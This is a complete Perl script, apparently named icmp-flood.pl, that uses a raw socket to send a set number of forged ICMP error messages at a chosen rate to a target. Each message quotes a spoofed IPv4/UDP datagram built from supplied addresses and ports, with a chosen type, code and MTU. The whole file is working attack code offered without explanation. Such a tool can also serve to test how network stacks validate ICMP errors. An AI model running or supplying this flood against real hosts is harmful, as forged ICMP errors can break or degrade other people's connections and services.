# Forges ICMP errors: icmp-flood.pl TO TYPE CODE MTU COUNT PER_SECOND QUOTED_SOURCE QUOTED_PORT QUOTED_DESTINATION QUOTED_PORT
# Each quotes an IPv4/UDP datagram as TO would have sent it (RFC 792). Prints how many it sent.
use strict;
use warnings;
use Socket;
use Time::HiRes qw(sleep time);

my ($to, $type, $code, $mtu, $count, $rate, $source, $sport, $destination, $dport) = @ARGV;
socket(my $raw, AF_INET, SOCK_RAW, 1) or die "raw socket: $!\n"; # IPPROTO_ICMP

sub sum {
	my $sum = 0;
	$sum += $_ for unpack 'n*', $_[0];
	$sum = ($sum & 0xffff) + ($sum >> 16) while $sum >> 16;
	~$sum & 0xffff;
}

my $quoted = pack('CCnnnCCna4a4', 0x45, 0, 1428, 0, 0x4000, 64, 17, 0, inet_aton($source), inet_aton($destination));
$quoted .= pack('nnnn', $sport, $dport, 1408, 0);
my $sent = 0;
for (my $start = time; $sent < $count; sleep 0.002) {
	for (; $sent < $count && $sent < $rate * (time - $start); $sent++) {
		my $body = pack('nn', 0, $mtu) . $quoted;
		my $icmp = pack('CCn', $type, $code, sum(pack('CCn', $type, $code, 0) . $body)) . $body;
		send($raw, $icmp, 0, pack_sockaddr_in(0, inet_aton($to))) or die "send: $!\n";
	}
}
print "$sent\n";
